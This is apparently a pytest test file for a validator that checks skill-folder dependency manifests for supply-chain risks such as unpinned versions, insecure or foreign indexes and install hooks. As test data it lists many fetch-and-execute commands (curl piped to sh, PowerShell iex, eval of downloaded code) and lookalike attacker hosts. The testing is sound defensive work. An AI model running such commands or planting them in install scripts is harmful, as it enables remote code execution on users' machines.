import json

import pytest

from builders import skill_folder
from mcpskills.validation.policy import Policy
from mcpskills.validation.validate import validate

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def codes(files, policy=None):
    findings = validate(skill_folder(files=files), policy or Policy()).findings
    return [finding.code for finding in findings if "SK073" <= finding.code <= "SK081" and finding.code != "SK080"]


def found(files, code, policy=None):
    return [
        finding for finding in validate(skill_folder(files=files), policy or Policy()).findings if finding.code == code
    ]


def script(metadata):
    block = "\n".join(f"# {line}".rstrip() for line in metadata.split("\n"))
    return f'#!/usr/bin/env python3\n# /// script\n{block}\n# ///\nprint("hi")\n'


def npm(**tables):
    return json.dumps(tables, indent=2)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "requirements.txt",
            "httpx==1.2.3\nrich == 14.0.0  # for tables\nrequests[socks]==2.0 ; python_version > '3.9'\n",
        ),
        (
            "requirements.txt",
            "httpx==1.2.3 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n-r other.txt\n-c constraints.txt\n",
        ),
        ("requirements.txt", "-e .\n./wheels/a.whl\n--no-index\n--pre\n\n# nothing\n"),
        ("requirements-dev.in", "httpx===1.2.3"),
        ("notes/requirements.md", "httpx>=1"),
        ("txt/users.txt", "httpx>=1"),
        ("pyproject.toml", '[project]\ndependencies = ["httpx==1.2.3"]\n[project.urls]\nhome = "http://example.com"\n'),
        ("pyproject.toml", '[tool.poetry.dependencies]\npython = "^3.11"\nhttpx = "1.2.3"\nlocal = {path = "../x"}\n'),
        ("scripts/run.py", script('dependencies = ["httpx==1.2.3"]')),
        ("scripts/run.py", 'TEXT = """\n# /// script\n"""\nimport os\n'),
        ("Cargo.toml", '[dependencies]\nserde = "=1.2.3"\nmine = { path = "../mine" }\n'),
        ("package.json", npm(dependencies={"a": "1.2.3", "b": "npm:c@1.0.0", "d": "file:../d", "e": "workspace:*"})),
        ("package.json", npm(scripts={"test": "curl https://example.com | sh", "build": "tsc"})),
        ("environment.yml", "dependencies:\n  - python=3.11\n  - numpy=2.1.0=py311\n  - pip:\n    - httpx==1.2.3\n"),
        ("go.mod", "module example.com/a\nrequire example.com/b v1.2.3\nreplace example.com/c => ../c\n"),
        (".npmrc", "save-exact=true\n# registry=http://example.com\n"),
        ("pip.conf", "[global]\ntimeout = 60\n"),
    ],
)
def test_pinned_packages_of_the_usual_index_are_fine(path, text):
    assert codes({path: text}) == []


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("requirements.txt", "rich==14.0.0\nhttpx>=1\n", 2),
        ("requirements.txt", "httpx\n", 1),
        ("requirements.txt", "httpx==1.*\n", 1),
        ("requirements/dev.txt", "httpx~=1.2\n", 1),
        ("constraints.txt", "httpx<2\n", 1),
        ("pyproject.toml", '[project]\nname = "a"\ndependencies = [\n  "httpx>=1",\n]\n', 4),
        ("pyproject.toml", '[dependency-groups]\ndev = ["httpx>=1", {include-group = "x"}]\n', 2),
        ("pyproject.toml", '[project.optional-dependencies]\nall = ["httpx"]\n', 2),
        ("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n', 2),
        ("pyproject.toml", '[tool.poetry.dependencies]\nhttpx = "^1.2"\n', 2),
        ("pyproject.toml", '[tool.poetry.group.dev.dependencies]\nhttpx = {version = "*"}\n', 2),
        ("scripts/run.py", script('dependencies = [\n  "httpx",\n]'), 4),
        ("Pipfile", '[packages]\nhttpx = "*"\n', 2),
        ("Cargo.toml", '[dependencies]\nserde = "1.2"\n', 2),
        ("Cargo.toml", '[dependencies]\nserde = { version = "1", features = ["derive"] }\n', 2),
        ("package.json", npm(dependencies={"a": "^1.2.3"}), 3),
        ("package.json", npm(devDependencies={"a": "latest"}), 3),
        ("environment.yml", "dependencies:\n  - numpy\n", 2),
        ("environment.yaml", "dependencies:\n  - pip:\n    - httpx>=1\n", 3),
    ],
)
def test_a_range_is_told_once_for_each_file(path, text, line):
    findings = validate(skill_folder(files={path: text}), Policy()).findings

    (finding,) = [finding for finding in findings if finding.code == "SK073"]
    assert (finding.severity, finding.path, finding.line) == ("info", f"skills/pdf-forms/{path}", line)


@pytest.mark.parametrize(
    ("path", "text", "lock"),
    [
        ("package.json", npm(dependencies={"a": "^1"}), "package-lock.json"),
        ("web/package.json", npm(dependencies={"a": "^1"}), "web/pnpm-lock.yaml"),
        ("pyproject.toml", '[project]\ndependencies = ["httpx"]', "uv.lock"),
        ("Cargo.toml", '[dependencies]\nserde = "1"', "Cargo.lock"),
        ("scripts/run.py", script('dependencies = ["httpx"]'), "scripts/run.py.lock"),
        ("requirements.in", "httpx", "requirements.txt"),
    ],
)
def test_a_lock_file_beside_it_makes_ranges_good(path, text, lock):
    assert found({path: text, lock: "{}"}, "SK073") == []
    assert len(found({path: text, f"elsewhere/{lock}": "{}"}, "SK073")) == 1


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", f"httpx @ https://example.com/httpx-1.0.whl#sha256={'a' * 64}\n"),
        ("requirements.txt", f"https://example.com/httpx-1.0.whl#sha256={'a' * 64}\n"),
        ("requirements.txt", f"git+https://example.com/a/b@{COMMIT}\n"),
        ("requirements.txt", f"-e git+ssh://git@example.com/a/b@{COMMIT}#egg=b\n"),
        ("requirements.txt", f"--editable=git+https://example.com/a/b@{COMMIT}\n"),
        ("requirements.txt", f"httpx @ \\\n  git+https://example.com/a/b@{COMMIT}\n"),
        ("go.mod", "replace example.com/a => example.org/b v1.0.0\n"),
        ("go.mod", "replace (\n\texample.com/a v1.0.0 => example.org/b v1.0.0\n)\n"),
    ],
)
def test_a_pinned_address_is_a_warning(path, text):
    assert codes({path: text}) == ["SK074"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "httpx @ https://example.com/httpx.whl\n"),
        ("requirements.txt", "git+https://example.com/a/b@main\n"),
        ("pyproject.toml", '[project]\ndependencies = ["a @ git+https://example.com/a"]\n'),
        ("pyproject.toml", '[tool.uv.sources]\na = { git = "https://example.com/a" }\n'),
        ("pyproject.toml", '[tool.uv.sources]\na = { url = "https://example.com/a.whl" }\n'),
        ("pyproject.toml", '[tool.poetry.dependencies]\na = { git = "git@example.com:a/b.git" }\n'),
        ("scripts/run.py", script('dependencies = ["a @ https://example.com/a.whl"]')),
        ("Pipfile", '[packages]\na = { git = "https://example.com/a", ref = "main" }\n'),
        ("Cargo.toml", '[dependencies]\na = { git = "https://example.com/a" }\n'),
        ("package.json", npm(dependencies={"a": "git+ssh://git@example.com/a/b.git"})),
        ("package.json", npm(dependencies={"a": "https://example.com/a.tgz"})),
        ("package.json", npm(dependencies={"a": "owner/repository"})),
        ("package.json", npm(dependencies={"a": "github:owner/repository#main"})),
        ("package.json", npm(overrides={"a": {"b": "https://example.com/b.tgz"}})),
        ("environment.yml", "dependencies:\n  - pip:\n    - git+https://example.com/a\n"),
    ],
)
def test_an_address_that_may_change_is_a_warning_and_not_pinned(path, text):
    assert sorted(codes({path: text})) == ["SK073", "SK074"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "a @ http://example.com/a.whl#sha256=aa\n"),
        ("requirements.txt", "a @ https://203.0.113.7/a.whl\n"),
        ("requirements.txt", "https://0xCB007107/a.whl\n"),
        ("requirements.txt", "https://3405803783/a.whl\n"),
        ("requirements.txt", "https://[2001:db8::7]/a.whl\n"),
        ("requirements.txt", "https://user:pass@203.0.113.7:8443/a.whl\n"),
        ("requirements.txt", f"git+http://example.com/a@{COMMIT}\n"),
        ("requirements.txt", "git+git://example.com/a\n"),
        ("requirements.txt", "--index-url http://example.com/simple\n"),
        ("requirements.txt", "-ihttp://example.com/simple\n"),
        ("requirements.txt", "--extra-index=http://example.com/simple\n"),
        ("requirements.txt", "-f http://example.com/wheels\n"),
        ("requirements.txt", "--index-url https://example.com/simple --extra-index-url http://example.org/simple\n"),
        ("scripts/run.py", script('dependencies = []\n[[tool.uv.index]]\nurl = "http://example.com/simple"')),
        ("Pipfile", '[[source]]\nurl = "http://example.com/simple"\nverify_ssl = true\n'),
        ("package.json", npm(dependencies={"a": "http://example.com/a.tgz"})),
        ("package-lock.json", npm(packages={"node_modules/a": {"resolved": "http://example.com/a/-/a-1.0.0.tgz"}})),
        (
            "package-lock.json",
            npm(dependencies={"a": {"dependencies": {"b": {"resolved": "https://203.0.113.7/b.tgz"}}}}),
        ),
        ("pip.conf", "[global]\nindex-url = http://example.com/simple\n"),
        (".npmrc", "@team:registry=http://example.com/\n"),
        ("environment.yml", "channels:\n  - http://example.com/conda\ndependencies: []\n"),
        (".cargo/config.toml", '[source.mirror]\nregistry = "http://example.com/index"\n'),
    ],
)
def test_a_connection_on_which_anybody_could_answer_is_an_error(path, text):
    (finding,) = found({path: text}, "SK075")

    assert finding.severity == "error"
    assert finding.line >= 1


@pytest.mark.parametrize("url", ["http://localhost:8080/simple", "http://127.0.0.1/simple", "http://[::1]:3141/root"])
def test_an_index_on_the_own_machine_is_a_warning_only(url):
    assert codes({"requirements.txt": f"--index-url {url}\n"}) == ["SK076"]


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("requirements.txt", "# index\n-i https://example.com/simple\n", 2),
        ("requirements.txt", "--extra-index-url=https://example.com/simple\n", 1),
        ("requirements.txt", "--trusted-host example.com\n", 1),
        ("requirements.txt", "--trus example.com\n", 1),
        ("pip.conf", "[global]\nextra-index-url =\n    https://example.com/simple\n", 3),
        ("pip.ini", "[install]\ntrusted-host = example.com\n", 2),
        (".npmrc", "registry=https://example.com/\n", 1),
        (".npmrc", "strict-ssl=false\n", 1),
        (".yarnrc.yml", 'npmRegistryServer: "https://example.com"\n', 1),
        (".pypirc", "[mine]\nrepository = https://example.com/upload\n", 2),
        ("uv.toml", 'index-url = "https://example.com/simple"\n', 1),
        ("uv.toml", '[[index]]\nname = "a"\nurl = "https://example.com/simple"\n', 3),
        ("pyproject.toml", '[tool.uv]\nfind-links = ["https://example.com/wheels"]\n', 2),
        ("pyproject.toml", '[[tool.poetry.source]]\nname = "a"\nurl = "https://example.com/simple"\n', 3),
        ("Pipfile", '[[source]]\nurl = "https://example.com/simple"\n', 2),
        ("Pipfile", "[[source]]\nverify_ssl = false\n", 2),
        ("environment.yml", "channels:\n  - conda-forge\n  - https://example.com/conda\n", 3),
        ("environment.yml", "dependencies:\n  - pip:\n    - --index-url https://example.com/simple\n", 3),
        ("bunfig.toml", '[install]\nregistry = "https://example.com"\n', 2),
    ],
)
def test_a_choice_of_index_is_a_warning_at_its_place(path, text, line):
    (finding,) = found({path: text}, "SK076")

    assert (finding.severity, finding.line) == ("warning", line)


POLICY = Policy(sources=("git.example.com", "index.example.com"))


@pytest.mark.parametrize(
    "text",
    [
        f"git+https://git.example.com/a@{COMMIT}\n",
        f"git+ssh://git@git.example.com/a@{COMMIT}\n",
        "--index-url https://INDEX.example.com:8443/simple\n",
        "httpx==1.2.3\n",
    ],
)
def test_sources_that_the_policy_allows_are_no_error(text):
    assert found({"requirements.txt": text}, "SK077", POLICY) == []


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "git+https://git.example.com.evil.example/a\n"),
        ("requirements.txt", "git+https://git.example.com@evil.example/a\n"),
        ("requirements.txt", "a @ https://evil.example/git.example.com/a.whl\n"),
        ("requirements.txt", "--index-url https://${HOST}/simple\n"),
        ("requirements.txt", "--index-url https://[git.example.com/simple\n"),
        ("package.json", npm(dependencies={"a": "owner/repository"})),
        ("package-lock.json", npm(packages={"node_modules/a": {"resolved": "https://evil.example/a/-/a-1.0.0.tgz"}})),
        ("scripts/run.py", script('dependencies = ["a @ https://evil.example/a.whl"]')),
    ],
)
def test_other_sources_are_an_error_where_the_policy_has_a_list(path, text):
    (finding,) = found({path: text}, "SK077", POLICY)

    assert finding.severity == "error"
    assert "`git.example.com`, `index.example.com`" in finding.fix
    assert found({path: text}, "SK077") == []


def test_a_package_from_another_host_than_the_rest_of_a_lock_file_is_a_warning():
    usual = {f"node_modules/a{n}": {"resolved": f"https://index.example.com/a{n}/-/a{n}-1.0.0.tgz"} for n in range(3)}
    slipped_in = {"node_modules/b": {"resolved": "https://evil.example/b/-/b-1.0.0.tgz"}}

    (finding,) = found({"package-lock.json": npm(packages={**usual, **slipped_in})}, "SK074")

    assert "evil.example" in finding.message
    assert codes({"package-lock.json": npm(packages=usual)}) == []


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", npm(scripts={"postinstall": "node setup.js"})),
        ("package.json", npm(scripts={"prepare": "husky"})),
        ("setup.py", "from setuptools import setup\nsetup()\n"),
        ("native/binding.gyp", "{}"),
        ("crate/build.rs", "fn main() {}\n"),
        ("Cargo.toml", '[package]\nname = "a"\nbuild = "make.rs"\n'),
    ],
)
def test_what_runs_on_installation_is_a_warning(path, text):
    assert codes({path: text}) == ["SK078"]


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://example.com/x | sh",
        "wget -qO- https://example.com/x|sudo bash -s -- -y",
        "curl https://example.com/x | /usr/bin/env python3",
        "CURL https://example.com/x | /bin/BASH",
        "bash <(curl -s https://example.com/x)",
        'eval "$(curl -s https://example.com/x)"',
        "sh -c `wget -qO- https://example.com/x`",
        "curl -o x https://example.com/x && chmod +x x && ./x",
        "curl -o x.js https://example.com/x; node x.js",
        'powershell -c "iwr https://example.com/x | iex"',
        "iex (New-Object Net.WebClient).DownloadString('https://example.com/x')",
        "node -e \"require('https').get('https://example.com/x', r => r.on('data', eval))\"",
        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://example.com/x').read())\"",
        "echo aGVsbG8= | base64 -d | sh",
        "npx https://example.com/x.tgz",
        "npm install --no-save git+https://example.com/x",
        "pip install https://example.com/x.whl",
        "deno run https://example.com/x.ts",
    ],
)
def test_a_command_on_installation_that_runs_what_it_downloads_is_an_error(command):
    files = {"package.json": npm(scripts={"postinstall": command})}

    assert codes(files) == ["SK078", "SK079"]
    (finding,) = found(files, "SK079")
    assert (finding.severity, finding.line) == ("error", 3)


@pytest.mark.parametrize(
    "command",
    [
        "husky",
        "npm run build && node dist/check.js",
        "node scripts/setup.js",
        "python3 -c 'import sys; print(sys.version)'",
        "curl -sf https://example.com/data.json -o data.json",
        "node build.js | tee log.txt",
        "npx playwright install chromium",
        "echo 'see https://example.com' && node a.js",
    ],
)
def test_other_commands_on_installation_are_a_warning_only(command):
    assert codes({"package.json": npm(scripts={"postinstall": command})}) == ["SK078"]


@pytest.mark.parametrize(
    ("path", "text", "says"),
    [
        ("pyproject.toml", "[project\n", "no valid TOML"),
        ("pyproject.toml", "a = " + "[" * 5000, "nested too deep"),
        ("pyproject.toml", "a." * 200 + "b = 1", "dots"),
        ("pyproject.toml", "#" * 600_000, "more than 524288"),
        ("pyproject.toml", "[tool.uv" + ".a" * 30 + "]\nb = 'c'\n", "nested too deep"),
        ("package.json", "{", "no valid JSON"),
        ("package.json", '{"dependencies":' * 5000, "nested too deep"),
        ("package.json", " " * (2 * 1024 * 1024) + "{}", "more than 2097152 bytes"),
        ("requirements.txt", "a==1\n" * 5001, "more than 5000 dependencies"),
        ("requirements.txt", "\n" * 20_001, "more than 20000 lines"),
        ("requirements.txt", b"\x01\x02\x03\x00\x05" * 100, "is no text"),
        ("environment.yml", "dependencies: [", "cannot be read"),
        ("environment.yml", "dependencies:\n  - &a numpy\n  - *a\n", "cannot be read"),
    ],
)
def test_what_cannot_be_read_is_a_warning(path, text, says):
    (finding,) = found({path: text}, "SK081")

    assert finding.severity == "warning"
    assert says in finding.message


@pytest.mark.parametrize(
    "text", ["[]", "null", '"a"', '{"dependencies": [], "scripts": 1}', '{"dependencies": {"a": 1}}']
)
def test_a_package_of_odd_shape_is_passed_over(text):
    assert codes({"package.json": text, "package-lock.json": text}) == []


def test_requirements_in_utf_16_are_read_as_pip_reads_them():
    assert "SK075" in codes({"requirements.txt": "a @ http://example.com/a.whl\n".encode("utf-16")})


def test_a_line_that_another_line_hides_is_found():
    hidden = "rich==14.0.0 # fine\r\n--extra-index-url \\\r\n  http://example.com/simple\r\n"

    (finding,) = found({"requirements.txt": hidden}, "SK075")

    assert finding.line == 2
